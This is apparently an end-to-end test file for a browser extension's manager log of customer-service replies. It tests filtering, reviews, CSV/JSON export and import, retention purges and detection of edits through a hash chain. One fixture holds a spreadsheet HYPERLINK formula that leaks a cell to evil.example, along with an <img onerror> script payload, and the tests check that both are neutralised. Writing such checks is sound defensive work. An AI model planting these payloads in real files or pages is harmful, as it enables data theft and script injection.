/**
 * The manager's desk in headless Chromium with the built extension: a team log is written into the extension's
 * database (sealed as the background seals it), then a manager filters, searches, reviews an entry and marks it,
 * exports CSV and JSON, and imports the JSON into a fresh profile, which shows the same entries. A post carrying
 * an <img onerror> and a spreadsheet formula is shown as text and exported harmless. Retention and the integrity
 * chain are checked in the second profile.
 */
import { readFileSync } from "node:fs";
import type { Download, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { generateLog, seedLog } from "../../bench/log";
import { sealEntry } from "../../lib/log/chain";
import { parseCsv } from "../../lib/log/csv";
import type { ReplyLogEntry } from "../../lib/schemas";
import { type Launched, launch, outputPath } from "./harness";

const HOSTILE_TEXT =
  '=HYPERLINK("https://evil.example/?leak="&A1,"Remboursement") <img src=x onerror="window.__pwned=1"> colis perdu';
const NOW = Date.now();

let first: Launched;
let second: Launched | undefined;
let log: ReplyLogEntry[];
let hostile: ReplyLogEntry;
const files = { csv: "", json: "" };

async function open(browser: Launched, query = ""): Promise<Page> {
  const page = await browser.context.newPage();
  await page.goto(`chrome-extension://${browser.extensionId}/log.html${query}`);
  await page.getByTestId("log-count").waitFor();
  return page;
}

/** The whole log is in memory and its chain checked. */
async function ready(page: Page): Promise<void> {
  await page.locator('[data-testid="log-count"][data-complete="true"]').waitFor();
  await page.getByTestId("chain-status").and(page.locator(":not([data-state='checking'])")).waitFor();
}

const count = (page: Page) => page.getByTestId("log-count").textContent();
const rowTexts = (page: Page) => page.getByTestId("log-row").allTextContents();

async function save(download: Download, name: string): Promise<string> {
  const path = outputPath(name);
  await download.saveAs(path);
  return path;
}

beforeAll(async () => {
  // 240 entries of a team of twelve over the past year, and Julie's hostile one, sealed after her others.
  log = await generateLog(240, NOW - 60_000, 11);
  const julie = log.filter((e) => e.agent === "Julie").at(-1) as ReplyLogEntry;
  const base = log.find((e) => e.agent === "Julie") as ReplyLogEntry;
  hostile = await sealEntry(
    {
      ...base,
      id: "019a0000-0000-7000-8000-00000000beef",
      postId: "1999999999999999001",
      postUrl: "https://x.com/mallory/status/1999999999999999001",
      author: "mallory",
      authorName: "<b>Mallory</b>",
      postText: HOSTILE_TEXT,
      finalText: "-1 pour nous : écrivez-nous en message privé, on retrouve ce colis.",
      insertedAt: NOW - 30_000,
      publishedAt: NOW - 40 * 60_000,
      detectedAt: NOW - 35 * 60_000,
      postedAt: NOW - 20_000,
      responseMs: 40 * 60_000 - 20_000,
    },
    julie.hash as string,
  );
  log.push(hostile);
  first = await launch();
  const page = await open(first);
  await seedLog(page, log);
  await page.close();
});

afterAll(async () => {
  await first?.close();
  await second?.close();
});

describe("the manager's desk", () => {
  let page: Page;

  test("opens on the whole log, newest first, and the chain verifies", async () => {
    page = await open(first);
    await ready(page);
    expect(await count(page)).toContain("241 of 241 entries");
    expect(await page.getByTestId("chain-status").getAttribute("data-state")).toBe("ok");
    const firstRow = page.getByTestId("log-row").first();
    expect(await firstRow.getAttribute("data-id")).toBe(hostile.id);
    // Only the rows in view are in the page.
    const rendered = await page.getByTestId("log-row").count();
    expect(rendered).toBeGreaterThan(10);
    expect(rendered).toBeLessThan(80);
    await page.screenshot({ path: outputPath("log-desk-light.png") });
  });

  test("filters and search narrow the table; headers sort it", async () => {
    await page.selectOption('select[name="agent"]', "Marc");
    await expect.poll(() => count(page)).toMatch(/^20 of 241/);
    for (const t of await rowTexts(page)) expect(t).toContain("Marc");
    await page.fill('input[name="q"]', "remboursez");
    const marcRefunds = log.filter((e) => e.agent === "Marc" && e.postText.includes("remboursez")).length;
    await expect.poll(() => count(page)).toMatch(new RegExp(`^${marcRefunds} of 241`));
    await page.selectOption('select[name="status"]', "posted");
    const posted = log.filter((e) => e.agent === "Marc" && e.postText.includes("remboursez") && e.postedAt).length;
    await expect.poll(() => count(page)).toMatch(new RegExp(`^${posted} of 241`));
    await page.getByRole("button", { name: "Clear filters" }).click();
    await expect.poll(() => count(page)).toMatch(/^241 of 241/);

    const header = page.locator('th[data-col="responseMs"]');
    expect(await header.getAttribute("aria-sort")).toBe("none");
    await header.getByRole("button").click();
    expect(await header.getAttribute("aria-sort")).toBe("descending");
    const slowest = [...log].sort((a, b) => (b.responseMs ?? 0) - (a.responseMs ?? 0))[0] as ReplyLogEntry;
    expect(await page.getByTestId("log-row").first().getAttribute("data-id")).toBe(slowest.id);
    await header.getByRole("button").click();
    expect(await header.getAttribute("aria-sort")).toBe("ascending");
    await page.locator('th[data-col="insertedAt"]').getByRole("button").click();
    expect(await page.locator('th[data-col="insertedAt"]').getAttribute("aria-sort")).toBe("descending");
  });

  test("the keyboard moves through the rows and opens one", async () => {
    const grid = page.getByRole("grid");
    await grid.focus();
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("ArrowDown");
    const active = await grid.getAttribute("aria-activedescendant");
    expect(active).toBe("log-row-1");
    await page.keyboard.press("Enter");
    const id = await page.locator("#log-row-1").getAttribute("data-id");
    expect(await page.getByTestId("entry-detail").getAttribute("data-id")).toBe(id);
    await page.keyboard.press("Escape");
    await expect.poll(() => page.getByTestId("entry-detail").count()).toBe(0);
  });

  test("a hostile post is shown as text, never as markup", async () => {
    await page.fill('input[name="q"]', "HYPERLINK");
    await expect.poll(() => count(page)).toMatch(/^1 of 241/);
    await page.getByTestId("log-row").first().click();
    const post = page.getByTestId("detail-post");
    expect(await post.textContent()).toBe(HOSTILE_TEXT);
    expect(await post.locator("img").count()).toBe(0);
    expect(await page.locator("img[src='x']").count()).toBe(0);
    expect(await page.getByTestId("entry-detail").textContent()).toContain("<b>Mallory</b>");
    expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
    // Links only to the post (http(s)) and the thread.
    const hrefs = await page
      .getByTestId("entry-detail")
      .locator("a")
      .evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).href));
    expect(hrefs).toEqual([hostile.postUrl, expect.stringMatching(/^https:\/\/x\.com\/search\?q=conversation_id/)]);
    expect(await page.getByTestId("detail-chain").textContent()).toMatch(/Unchanged since it was logged/);
  });

  test("the manager marks it for coaching, with a comment: stored, shown and queued for the team", async () => {
    const form = page.getByTestId("review-form");
    await form.getByLabel("Needs coaching").check();
    await form.locator("textarea").fill('=1+1 "trop familier", revoir le ton');
    await form.getByRole("button", { name: "Save the review" }).click();
    await form.getByRole("status").filter({ hasText: "Review saved." }).waitFor();
    await expect.poll(() => page.getByTestId("log-row").first().textContent()).toContain("Needs coaching");
    await expect.poll(() => page.getByTestId("review-current").textContent()).toContain("Needs coaching");
    const stored = await page.evaluate(async (id) => {
      const db = await new Promise<IDBDatabase>((ok) => {
        const o = indexedDB.open("apaise");
        o.onsuccess = () => ok(o.result);
      });
      const get = <T>(r: IDBRequest<T>) =>
        new Promise<T>((ok) => {
          r.onsuccess = () => ok(r.result);
        });
      const tx = db.transaction(["reviews", "outbox"]);
      const review = await get(tx.objectStore("reviews").get(id));
      const outbox = await get(tx.objectStore("outbox").getAll());
      db.close();
      return { review, kinds: outbox.map((r: { change: { kind: string; key: string } }) => r.change) };
    }, hostile.id);
    expect(stored.review).toMatchObject({
      replyId: hostile.id,
      mark: "coaching",
      comment: '=1+1 "trop familier", revoir le ton',
    });
    expect(stored.kinds).toContainEqual(expect.objectContaining({ kind: "review", key: hostile.id }));
    await page.getByTestId("entry-detail").screenshot({ path: outputPath("log-detail-light.png") });
    // The mark is a filter too.
    await page.fill('input[name="q"]', "");
    await page.selectOption('select[name="mark"]', "coaching");
    await expect.poll(() => count(page)).toMatch(/^1 of 241/);
  });

  test("CSV of the filtered view: BOM, one record, the formula and the markup neutralised", async () => {
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Export CSV" }).click(),
    ]);
    files.csv = await save(download, "log-export.csv");
    const bytes = readFileSync(files.csv);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.toString("utf8"));
    expect(rows).toHaveLength(2);
    const [header, record] = rows as [string[], string[]];
    const cell = (name: string) => record[header.indexOf(name)];
    expect(cell("id")).toBe(hostile.id);
    expect(cell("post_text")).toBe(`'${HOSTILE_TEXT}`);
    expect(cell("reply_text")).toBe(`'${hostile.finalText}`);
    expect(cell("review_mark")).toBe("coaching");
    expect(cell("review_comment")).toBe(`'=1+1 "trop familier", revoir le ton`);
    for (const c of record) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  test("JSON of everything: every entry and the review", async () => {
    await page.selectOption('select[name="mark"]', "");
    await page.selectOption('select[name="scope"]', "all");
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Export JSON" }).click(),
    ]);
    files.json = await save(download, "log-export.json");
    const data = JSON.parse(readFileSync(files.json, "utf8"));
    expect(data).toMatchObject({ format: "apaise-log", version: 1 });
    expect(data.entries).toHaveLength(241);
    expect(data.reviews).toEqual([expect.objectContaining({ replyId: hostile.id, mark: "coaching" })]);
    expect(data.entries.find((e: ReplyLogEntry) => e.id === hostile.id)).toEqual(hostile);
  });

  test("the figures: response times, target, usage, charts", async () => {
    await page.getByRole("tab", { name: "Metrics" }).click();
    await page.getByTestId("m-first-pub").waitFor();
    expect(await page.getByTestId("m-within").textContent()).toMatch(/Answered within 60 min\d+%/);
    expect(await page.getByTestId("m-answer-rate").textContent()).toMatch(/241 of 241 detected posts/);
    for (const chart of ["chart-distribution", "chart-volume", "chart-within"])
      await page.getByTestId(chart).locator("canvas").first().waitFor();
    await page.getByRole("button", { name: "Agent" }).click();
    expect(await page.getByTestId("breakdown").locator("tbody tr").count()).toBe(12);
    await page.screenshot({ path: outputPath("log-metrics-light.png"), fullPage: true });
    await page.close();
  });

  test.each([
    { name: "dark", query: "?theme=dark", lang: "en" },
    { name: "fr", query: "?theme=light", lang: "fr" },
    { name: "fr-dark", query: "?theme=dark", lang: "fr" },
  ])("screenshots: $name", async ({ name, query, lang }) => {
    const setup = await open(first);
    await setup.evaluate((uiLanguage) => chrome.storage.local.set({ settings: { uiLanguage } }), lang);
    await setup.close();
    const shot = await open(first, query);
    await ready(shot);
    await shot.getByTestId("log-row").nth(2).click();
    await shot.getByTestId("entry-detail").waitFor();
    await shot.screenshot({ path: outputPath(`log-desk-${name}.png`) });
    await shot.getByRole("tab").nth(1).click();
    await shot.getByTestId("chart-within").locator("canvas").first().waitFor();
    await shot.screenshot({ path: outputPath(`log-metrics-${name}.png`), fullPage: true });
    await shot.getByRole("tab").nth(2).click();
    await shot.getByTestId("integrity").waitFor();
    await shot.screenshot({ path: outputPath(`log-data-${name}.png`), fullPage: true });
    await shot.close();
  });
});

describe("in a fresh profile", () => {
  let page: Page;

  test("importing the JSON export shows the same entries, marks included, and the chain verifies", async () => {
    second = await launch();
    page = await open(second);
    await expect.poll(() => count(page)).toContain("0 of 0");
    await page.getByRole("tab", { name: "Data and integrity" }).click();
    await page.locator('input[name="import"]').setInputFiles(files.json);
    await expect
      .poll(() => page.getByTestId("import-status").textContent(), { timeout: 30_000 })
      .toBe("Imported 241 new entries (0 already here) and 1 reviews.");
    await page.getByRole("tab", { name: "Review" }).click();
    await expect.poll(() => count(page)).toContain("241 of 241");
    await ready(page);
    expect(await page.getByTestId("chain-status").getAttribute("data-state")).toBe("ok");
    const ids = await page.evaluate(async () => {
      const db = await new Promise<IDBDatabase>((ok) => {
        const o = indexedDB.open("apaise");
        o.onsuccess = () => ok(o.result);
      });
      const req = db.transaction("replies").objectStore("replies").getAllKeys();
      const keys = await new Promise<IDBValidKey[]>((ok) => {
        req.onsuccess = () => ok(req.result);
      });
      const outbox = db.transaction("outbox").objectStore("outbox").count();
      const queued = await new Promise<number>((ok) => {
        outbox.onsuccess = () => ok(outbox.result);
      });
      db.close();
      return { keys: keys as string[], queued };
    });
    expect(ids.keys.sort()).toEqual(log.map((e) => e.id).sort());
    expect(ids.queued).toBe(0);
    await page.fill('input[name="q"]', "HYPERLINK");
    await expect.poll(() => count(page)).toMatch(/^1 of 241/);
    expect(await page.getByTestId("log-row").first().textContent()).toContain("Needs coaching");
  });

  test("importing it again adds nothing", async () => {
    await page.getByRole("tab", { name: "Data and integrity" }).click();
    await page.locator('input[name="import"]').setInputFiles(files.json);
    await expect
      .poll(() => page.getByTestId("import-status").textContent(), { timeout: 30_000 })
      .toBe("Imported 0 new entries (241 already here) and 0 reviews.");
  });

  test("retention: a preview of what goes, then the purge; the chain still verifies", async () => {
    const cutoff = NOW - 180 * 86_400_000;
    const old = log.filter((e) => e.insertedAt < cutoff - 60_000).length;
    await page.fill('input[name="retentionDays"]', "180");
    const preview = page.getByTestId("retention-preview");
    await expect.poll(() => preview.textContent()).toMatch(/entries inserted before .* will be deleted/);
    const shown = Number((await preview.textContent())?.match(/^(\d+) entries/)?.[1]);
    expect(Math.abs(shown - old)).toBeLessThanOrEqual(1);
    await preview.getByRole("button", { name: /Purge \d+ entries/ }).click();
    await preview.getByRole("button", { name: /Delete \d+ entries for good/ }).click();
    await page.getByTestId("retention").getByRole("status").filter({ hasText: "entries deleted" }).waitFor();
    await page.getByRole("tab", { name: "Review" }).click();
    await expect.poll(() => count(page)).toContain(`of ${241 - shown} entries`);
    await page.getByTestId("chain-status").and(page.locator("[data-state='ok']")).waitFor();
  });

  test("an entry edited in the database, and one deleted, break the chain, and the page says which", async () => {
    const [edited, , next] = log.filter((e) => e.agent === "Karim").slice(-3) as [
      ReplyLogEntry,
      ReplyLogEntry,
      ReplyLogEntry,
    ];
    const deleted = log.filter((e) => e.agent === "Karim").at(-2) as ReplyLogEntry;
    await page.evaluate(
      async ({ editId, deleteId }) => {
        const db = await new Promise<IDBDatabase>((ok) => {
          const o = indexedDB.open("apaise");
          o.onsuccess = () => ok(o.result);
        });
        const tx = db.transaction("replies", "readwrite");
        const store = tx.objectStore("replies");
        const req = store.get(editId);
        req.onsuccess = () => store.put({ ...req.result, finalText: "Texte réécrit après coup." });
        store.delete(deleteId);
        await new Promise((ok) => {
          tx.oncomplete = ok;
        });
        db.close();
      },
      { editId: edited.id, deleteId: deleted.id },
    );
    // Raw writes do not reach the page's live view: open it again.
    await page.reload();
    await ready(page);
    expect(await page.getByTestId("chain-status").getAttribute("data-state")).toBe("broken");
    expect(await page.getByTestId("chain-status").textContent()).toContain("Chain broken: 2 problem(s)");
    await page.getByTestId("chain-status").click();
    const issues = page.getByTestId("chain-issues").locator("li");
    expect(
      await issues.evaluateAll((li) => li.map((l) => [l.getAttribute("data-kind"), l.getAttribute("data-id")])),
    ).toEqual(
      expect.arrayContaining([
        ["edited", edited.id],
        ["missing", next.id],
      ]),
    );
    await page.screenshot({ path: outputPath("log-data-broken.png"), fullPage: true });
    await issues.filter({ hasText: "Edited after it was logged" }).getByRole("button", { name: "Show" }).click();
    expect(await page.getByTestId("entry-detail").getAttribute("data-id")).toBe(edited.id);
    expect(await page.getByTestId("detail-chain").textContent()).toContain("Edited after it was logged");
    await expect.poll(() => page.locator(`[data-testid="log-row"][data-id="${edited.id}"]`).count()).toBe(1);
  });
});
